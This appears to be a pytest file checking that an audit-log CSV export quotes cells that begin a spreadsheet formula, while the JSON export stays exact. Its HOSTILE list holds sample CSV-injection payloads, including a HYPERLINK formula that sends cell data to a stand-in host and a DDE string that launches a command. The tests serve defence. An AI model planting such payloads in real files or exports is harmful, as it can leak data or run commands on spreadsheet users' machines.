"""The audit CSV cannot carry a spreadsheet formula; the JSON stays exact."""
from __future__ import annotations

import csv
import io
import json

import pytest

from pipeline.review.audit import export_audit
from pipeline.review.service import ReviewService
from tests.support import paused_ids

HOSTILE = ['=HYPERLINK("https://evil.example/?x="&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)"]


@pytest.mark.parametrize("text", HOSTILE)
def test_cells_starting_a_formula_are_quoted_in_csv_only(paused_engine, text):
    review = ReviewService(paused_engine)
    inc = paused_ids(paused_engine)[0]
    review.reject(inc, reviewer=text, reason=text)
    rows = paused_engine.records.audit(inc)
    (row,) = list(csv.DictReader(io.StringIO(export_audit(rows, fmt="csv"), newline="")))
    for column in ("reviewer", "note"):
        assert row[column] == "'" + text, (column, row[column])
    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row.values())
    (exact,) = json.loads(export_audit(rows, fmt="json"))
    assert exact["reviewer"] == text and exact["note"] == text


def test_ordinary_cells_are_unchanged(paused_engine):
    review = ReviewService(paused_engine)
    inc = paused_ids(paused_engine)[0]
    review.reject(inc, reviewer="ann", reason="not our bug")
    (row,) = list(csv.DictReader(io.StringIO(export_audit(paused_engine.records.audit(inc), fmt="csv"))))
    assert row["reviewer"] == "ann" and row["note"] == "not our bug" and row["action"] == "reject"


def test_tab_and_carriage_return_starts_are_quoted_too():
    # the review service trims reviewer names and reasons; rows from elsewhere may still hold them
    rows = [{"id": 1, "at": "2026-11-28T10:00:00+00:00", "incident_id": "INC-1", "reviewer": "\t=1+1",
             "action": "reject", "before": {}, "after": {}, "note": "\r=2"}]
    (row,) = list(csv.DictReader(io.StringIO(export_audit(rows, fmt="csv"), newline="")))
    assert row["reviewer"] == "'\t=1+1" and row["note"] == "'\r=2"
